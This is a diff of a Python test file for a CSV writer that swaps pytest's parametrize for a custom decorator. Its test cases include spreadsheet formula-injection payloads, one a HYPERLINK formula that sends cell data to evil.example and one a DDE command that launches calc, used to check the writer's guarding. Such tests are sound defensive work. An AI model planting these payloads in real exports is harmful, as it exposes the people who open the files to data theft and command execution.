@@ -3,11 +3,11 @@
 import csv
 import io
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from rutter.pipeline.output.csv_table import as_csv, guarded
+from tests.support.case_table import for_each
 
 
 def test_cells_are_quoted_where_they_must_be_and_lines_end_in_crlf() -> None:
@@ -19,7 +19,7 @@ def test_an_empty_row_is_a_row() -> None:
     assert as_csv(["a"], [[""]]) == 'a\r\n""\r\n'
 
 
-@pytest.mark.parametrize(
+@for_each(
     "cell",
     [
         *("=1+1", '=HYPERLINK("http://evil.example?"&A1,"Total")', "+cmd|' /C calc'!A0"),
@@ -32,7 +32,7 @@ def test_what_a_spreadsheet_would_compute_is_marked_as_text(cell: str) -> None:
     assert as_csv([cell], [], guard=False) == as_csv([cell], [], guard=True).replace("'", "", 1)
 
 
-@pytest.mark.parametrize(
+@for_each(
     "cell",
     [
         *("", "plain", "1007", "-5", "+5", "-1.250,00", "-0.5", "-3e10", "-12 %", "a=b"),
